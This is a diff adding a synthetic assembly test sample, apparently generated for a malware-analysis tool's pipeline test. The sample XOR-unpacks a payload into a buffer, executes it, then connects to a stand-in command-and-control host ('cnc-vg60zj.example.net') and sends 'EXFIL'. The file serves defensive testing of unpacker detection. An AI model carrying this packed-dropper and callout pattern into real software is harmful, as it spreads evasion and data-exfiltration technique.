@@ -1,0 +1,74 @@
+; Runtime unpacker (the packed-dropper pattern): the infection marker's
+; mutex name never appears in the static image — the .rdata blob holds
+; an XOR-packed payload the stub decrypts into a .data buffer and then
+; executes (write-then-execute; the VM surfaces it as a
+; self-modifying-code event and re-decodes the dirtied pages). Generated
+; by `autovac corpus` (runtime-unpack class); checked in so the e2e
+; pipeline test covers a self-modifying sample without generating one.
+;
+;   ./build/tools/autovac analyze samples/unpack_demo.asm --package u.pkg
+;   ./build/tools/autovac test samples/unpack_demo.asm u.pkg
+.name unpack_demo
+.evasion runtime-unpack
+.rdata
+  string str2 "cnc-vg60zj.example.net"
+  string str3 "EXFIL"
+  word blob0 0xc3c7c3cb 0xc3c3c39b 0xc33cc3ca 0xc3c3c3c3 0xc33c3cc9 0xc3c3c3c2 0xc33c3ce8 0xc3c3c3cd 0xc33cc4ce 0xc3c3c3cb 0xc33c3ce8 0xc3c3c3fc 0xc33cc3dc 0xc3c3c374 0xc33c3ce0 0xc3c3c3d3 0xc33c3ce9 0xc3c3c3c3 0xc33c3cc9 0xc3c3c3c3 0xc33c3ce8 0xc3c3c3df 0x9c829586 0xa9b4f2a5 0xabb5aaa6 0x00c3aef3
+.data
+  buffer buf1 104
+.text
+  mov edx, 414
+  add edx, 33
+  xor edx, edx
+  add ebx, 56
+  mov ecx, 0
+  mov edx, blob0
+  mov edi, buf1
+unpack_1:
+  cmp ecx, 103
+  jge unpacked_2
+  loadb eax, [edx]
+  xor eax, 195
+  storeb [edi], eax
+  inc edx
+  inc edi
+  inc ecx
+  jmp unpack_1
+unpacked_2:
+  mov esi, buf1
+  call buf1
+  sys WSAStartup
+  sys socket
+  mov ebx, eax
+  push 443
+  push str2
+  push ebx
+  sys connect
+  add esp, 12
+  push 5
+  push str3
+  push ebx
+  sys send
+  add esp, 12
+  push ebx
+  sys closesocket
+  add esp, 4
+  sys socket
+  mov ebx, eax
+  push 443
+  push str2
+  push ebx
+  sys connect
+  add esp, 12
+  push 5
+  push str3
+  push ebx
+  sys send
+  add esp, 12
+  push ebx
+  sys closesocket
+  add esp, 4
+  hlt
+bail_0:
+  push 0
+  sys ExitProcess
